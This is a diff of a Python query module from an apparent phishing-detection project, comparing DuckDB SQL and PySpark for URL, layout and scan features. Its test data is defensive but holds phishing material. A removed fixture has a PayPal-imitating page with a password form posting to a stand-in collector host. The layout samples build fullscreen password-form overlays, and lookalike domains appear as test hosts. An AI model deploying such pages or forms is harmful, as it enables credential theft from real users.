@@ -1,12 +1,12 @@
-"""Queries of the scan as one plan, of what a reader of a result sees, of page layout and of draws, with DuckDB SQL."""
+"""Queries of what a reader of a result sees, of page layout and of draws, with DuckDB SQL."""
 
 from __future__ import annotations
 
 from pyspark.sql import functions as F
 
 from riskloom.functions import layout, urls
-from riskloom.operators import brands, cascade, dashboard, history, lexicon, modelling, profile, scan
-from riskloom.plans.queries import _CASES, _HISTORY, _HOST, _cases, _history, _load, query
+from riskloom.operators import cascade, dashboard, history, lexicon, modelling, profile
+from riskloom.plans.queries import _CASES, _HISTORY, _HOST, _OWN, _cases, _history, _load, query
 
 
 def _pick(key: str, cases: tuple, k: int) -> str:
@@ -14,17 +14,7 @@ def _pick(key: str, cases: tuple, k: int) -> str:
     return f"CASE {key} % {len(cases)} " + " ".join(f"WHEN {i} THEN {word(c[k])}" for i, c in enumerate(cases)) + " END"
 
 
-#: Worked by hand from the rules: (host, brand named, brand that it sounds like, score).
-SOUNDS = (("fasebook.com", None, "facebook", 0.7), ("amason.test", None, "amazon", 0.7), ("paypol.test", None, "apple", 0.7), ("pay-pol2.test", "paypal", "paypal", 0.8), ("facebook.com", "facebook", None, 0.0), ("ab.com", None, None, 0.0), ("hulu.test", None, None, 0.0), ("fasebook.com", "google", None, 0.0))
-
-
-@query(f"SELECT page_id, {_pick('page_id', SOUNDS, 2)} AS phonetic_brand, {_pick('page_id', SOUNDS, 3)}::DOUBLE AS phonetic_score FROM pages")
-def A9_sounds_alike(spark, sf_dir):
-    rows = _load(spark, sf_dir, "pages").select("page_id", F.expr(_pick("page_id", SOUNDS, 0)).alias("host"), F.expr(_pick("page_id", SOUNDS, 1)).cast("string").alias("brand"))
-    return rows.select("page_id", *[c.alias(k) for k, c in brands.sound_alike(F.col("host"), F.col("brand")).items()])
-
-
-@query(f"""WITH {_CASES}, h AS (SELECT page_id, url, {_HOST} AS host FROM cases), o AS (SELECT *, CASE WHEN regexp_matches(host, '^([0-9]{{1,3}}\\.){{3}}[0-9]{{1,3}}$') THEN host ELSE array_to_string(string_split(host, '.')[-2:], '.') END AS registered FROM h)
+@query(f"""WITH {_CASES}, h AS (SELECT page_id, url, {_HOST} AS host FROM cases), o AS (SELECT *, {_OWN} AS registered FROM h)
 SELECT page_id, lower(regexp_extract(url, '^([A-Za-z]+):', 1)) AS scheme, host, CASE WHEN regexp_extract(url, '^[a-z]+://[^/?#]*([^?#]*)', 1) = '' THEN '/' ELSE regexp_extract(url, '^[a-z]+://[^/?#]*([^?#]*)', 1) END AS path, regexp_extract(url, '^[^?#]*\\?([^#]*)', 1) AS query, registered,
 CASE WHEN host = registered THEN '' ELSE host[:length(host) - length(registered) - 1] END AS subdomain, host = registered AND host LIKE '192.%' AS is_ip, host IN ('localhost', '127.0.0.1') AS is_localhost FROM o""")
 def P1_address_parts(spark, sf_dir):
@@ -38,17 +28,6 @@ def F9_parameters(spark, sf_dir):
     return read.select("page_id", *[F.try_element_at("p", F.lit(k)).alias(k) for k in "abc"], F.size("p").cast("long").alias("n"))
 
 
-#: (text, brands between blanks)
-NAMED = (("PayPal and google", "google,paypal"), ("paypal, stripe", "stripe"), ("applegate zoom", "zoom"), ("", ""), ("none at all", ""))
-
-
-@query(f"SELECT doc_id, {_pick('doc_id', NAMED, 1)} AS brands, length(t)::BIGINT AS length, len(regexp_extract_all(t, '[0-9]'))::BIGINT AS digit_count, len(regexp_extract_all(t, '[^A-Za-z0-9\\s]'))::BIGINT AS special_count, len(regexp_extract_all(t, '\\s'))::BIGINT AS space_count FROM (SELECT doc_id, {_pick('doc_id', NAMED, 0)} || ' #' || CAST(doc_id AS VARCHAR) AS t FROM documents)")
-def F20_brands_in_text(spark, sf_dir):
-    t = F.expr(_pick("doc_id", NAMED, 0))
-    said = F.concat(t, F.lit(" #"), F.col("doc_id").cast("string"))
-    return _load(spark, sf_dir, "documents").select("doc_id", F.array_join(lexicon.brands_in_text(t), ",").alias("brands"), *[c.alias(k) for k, c in lexicon.text_shape(said).items()])
-
-
 #: The features of F33 as both engines read them.
 FEATURES = """SELECT page_id, CASE WHEN page_id % 3 > 0 THEN 4.0 + page_id % 10 / 10.0 END AS url_entropy, page_id % 5 / 10.0 AS url_digit_ratio, page_id % 4 AS url_num_hyphens, page_id % 7 = 0 AS url_has_at_symbol, page_id % 2 = 0 AS html_has_favicon, page_id % 6 AS html_num_hidden_inputs,
 CASE page_id % 3 WHEN 0 THEN true WHEN 1 THEN false END AS brand_domain_match, CASE WHEN page_id % 4 > 0 THEN page_id % 60 END AS domain_age_days, CASE page_id % 3 WHEN 0 THEN 'budget' WHEN 1 THEN 'major' END AS registrar_category FROM {pages}"""
@@ -95,7 +74,7 @@ def F36_bands(spark, sf_dir):
 ALLOWED = ("google.com", "github.io", "bit.ly", "google.com")
 
 
-@query(f"""WITH {_CASES}, h AS (SELECT page_id, {_HOST} AS host FROM cases), d AS (SELECT *, CASE WHEN page_id % 9 = 1 THEN host WHEN page_id % 18 = 4 THEN 'github.io' ELSE array_to_string(string_split(host, '.')[-2:], '.') END AS domain FROM h)
+@query(f"""WITH {_CASES}, h AS (SELECT page_id, {_HOST} AS host FROM cases), d AS (SELECT *, CASE WHEN page_id % 9 = 1 THEN host WHEN page_id % 18 = 4 THEN 'github.io' ELSE {_OWN} END AS domain FROM h)
 SELECT page_id, domain, domain IN ('google.com', 'bit.ly') AS fast_path, domain = 'github.io' AS partial_match FROM d""")
 def P2_allow_list(spark, sf_dir):
     domain = F.when(F.col("page_id") % 18 == 4, "github.io").otherwise(urls.parsed(F.col("url"))["registered"])
@@ -127,14 +106,29 @@ def A21_coverage(spark, sf_dir):
     return profile.coverage(_load(spark, sf_dir, "documents").withColumn("page_mismatch", F.when(i % 3 == 0, True).when(i % 3 == 1, False)), {"with_text": "text"}, ["page_mismatch"])
 
 
-LAYOUT = ("<form style=\"position: fixed; inset: 0; z-index: 9\"><input type=password><button></button><button> go </button><button type=button></button></form><canvas><svg>", "<img src='data:image/png;base64,AAAA' style='width:100vw;height:100vh;object-fit:cover'><p style='z-index:-2'>", "<IMG><form><input TYPE=password></form><style>a{position:absolute;background:transparent}</style>")
+#: Layout put into each page's own markup, by its id; the rule is plain SQL of both engines.
+_LAYOUT = """CASE page_id % 4 WHEN 0 THEN '' WHEN 1 THEN '<form style="position: fixed; inset: 0; z-index: ' || CAST(page_id % 90 AS VARCHAR(9)) || '"><input type=password><button></button><button> go </button><button type=button></button></form><canvas><svg>'
+WHEN 2 THEN '<img src="data:image/png;base64,AAAA" style="width:100vw;height:100vh;object-fit:cover"><p style="z-index:-' || CAST(page_id % 7 AS VARCHAR(9)) || '">' ELSE '<IMG><form><input TYPE=password></form><style>a{position:absolute;background:transparent}</style>' END
+|| CASE page_id % 3 WHEN 0 THEN '<img src="/a"><img src="data:image/jpeg;base64,AAECAwQ="><button type="submit"> </button>' ELSE '' END"""
+LAYOUT = f"replace(html, '</article>', {_LAYOUT} || '</article>')"
+
 
+def _n(pattern: str) -> str:
+    return f"len(regexp_extract_all(l, '{pattern}'))::BIGINT"
 
-@query(f"""SELECT page_id, CASE k WHEN 0 THEN 0 ELSE 1 END::BIGINT AS n_images, (k = 1)::BIGINT AS n_embedded_images, CASE k WHEN 1 THEN 3 ELSE 0 END::BIGINT AS embedded_bytes, (k <> 1)::BIGINT AS n_forms, (k <> 1)::BIGINT AS n_password_inputs, (k = 0)::BIGINT AS n_canvas, (k = 0)::BIGINT AS n_svg, (k = 0)::BIGINT AS n_empty_submit, CASE k WHEN 0 THEN 9 WHEN 1 THEN -2 ELSE 0 END::BIGINT AS max_z_index,
-(k = 2)::BIGINT AS n_absolute, (k = 0)::BIGINT AS n_fixed, k = 1 AS full_viewport_image, k = 1 AS object_fit, k = 2 AS transparent_controls, k = 0 AS fullscreen_form, k = 2 AS form_over_image FROM (SELECT page_id, page_id % {len(LAYOUT)} AS k FROM pages)""")
+
+def _has(pattern: str) -> str:
+    return f"regexp_matches(l, '{pattern}')"
+
+
+@query(f"""WITH m AS (SELECT page_id, {LAYOUT} AS h, lower({LAYOUT}) AS l FROM pages), n AS (SELECT page_id, h, l, {_n("<img")} AS n_images, {_n("<form")} AS n_forms, {_n("type=.?password")} AS n_password_inputs FROM m)
+SELECT page_id, n_images, {_n('src="data:image/')} AS n_embedded_images, coalesce(list_sum(list_transform(regexp_extract_all(h, 'base64,([A-Za-z0-9+/=]+)', 1), lambda d: octet_length(from_base64(d)))), 0)::BIGINT AS embedded_bytes, n_forms, n_password_inputs, {_n("<canvas")} AS n_canvas, {_n("<svg")} AS n_svg,
+{_n('<button(?: type="submit")?> *</button>')} AS n_empty_submit, coalesce(list_max(list_transform(regexp_extract_all(l, 'z-index: ?(-?[0-9]+)', 1), lambda z: z::BIGINT)), 0)::BIGINT AS max_z_index, {_n("position: ?absolute")} AS n_absolute, {_n("position: ?fixed")} AS n_fixed,
+{_has("<img")} AND {_has("width:100vw")} AND {_has("height:100vh")} AS full_viewport_image, {_has("object-fit:(cover|fill)")} AS object_fit, {_has("background:transparent")} AND {_has("<(input|button)")} AS transparent_controls, {_has("<form")} AND {_has("inset: ?0")} AND {_has("z-index: ?[1-9]")} AS fullscreen_form,
+n_images > 0 AND n_forms > 0 AND n_password_inputs > 0 AND {_has("position: ?(fixed|absolute)")} AND {_has("background:transparent")} AS form_over_image FROM n""")
 def H12_layout(spark, sf_dir):
-    cases = tuple((c,) for c in LAYOUT)
-    rows = _load(spark, sf_dir, "pages").select("page_id", F.expr(_pick("page_id", cases, 0).replace("''", "\\'")).alias("html")).withColumn("t", layout.tags(F.col("html")))
+    """H12 over every page's own markup, with layout put in, since the tables' pages have none."""
+    rows = _load(spark, sf_dir, "pages").selectExpr("page_id", f"{LAYOUT} AS html").withColumn("t", layout.tags(F.col("html")))
     return rows.select("page_id", *[c.alias(k) for k, c in layout.structure(F.col("html"), F.col("t")).items()])
 
 
@@ -201,20 +195,3 @@ def C10_window_stats(spark, sf_dir):
 @query(f"WITH {_HISTORY}, l AS (SELECT event_id, ts, lag(ts) OVER (PARTITION BY user_id ORDER BY ts, event_id) AS b FROM h) SELECT event_id, b IS NULL OR epoch(date_trunc('second', ts)) - epoch(date_trunc('second', b)) >= 86400 AS lookup FROM l")
 def C8_lookup_due(spark, sf_dir):
     return history.lookup_due(_history(spark, sf_dir), "user_id", "ts", "event_id").select("event_id", "lookup")
-
-
-
-
-#: Worked by hand from the rules: (url, html, similarity, verdict, score, confidence, level)
-SCANS = (
-    ("https://www.google.com/", "<title>Hi there friend</title><p>plain words here", None, "SAFE", 0.0, 1.0, "L1_WHITELIST"), ("https://a.b.c.d.example.com/", None, None, "SAFE", 0.255, 0.745, "L3_ML"), ("https://a.b.c.d.example.com/", None, 0.9, "MALICIOUS", 0.2475, 0.9025, "L3_ML"),
-    ("http://paypal-secure.com/", '<title>PayPal</title><body><p>verify your account</p><form action="http://collector.test/x.php" method="post"><input type="password"></form>', None, "MALICIOUS", 1.0, None, "L2_HEURISTICS"), ("http://example.com/", "<p>plain words here", 0.9, "SAFE", 0.0, None, "L2_HEURISTICS"),
-)
-
-
-@query(f"SELECT page_id, {_pick('page_id', SCANS, 0)} AS url, {_pick('page_id', SCANS, 3)} AS verdict, {_pick('page_id', SCANS, 4)}::DOUBLE AS score, {_pick('page_id', SCANS, 5)}::DOUBLE AS confidence, {_pick('page_id', SCANS, 6)} AS level_caught FROM pages")
-def Y1_scan(spark, sf_dir):
-    """The whole scan; the cases are worked by hand."""
-    case = lambda k, t: F.expr(_pick("page_id", SCANS, k)).cast(t)
-    rows = _load(spark, sf_dir, "pages").select("page_id", case(0, "string").alias("url"), case(1, "string").alias("html"), case(2, "double").alias("similarity"), F.lit("paypal.com").alias("expected_domain"))
-    return scan.scan(rows, spark.createDataFrame([("google.com",)], "domain string"), ("page_id",)).select("page_id", "url", "verdict", "score", "confidence", "level_caught")
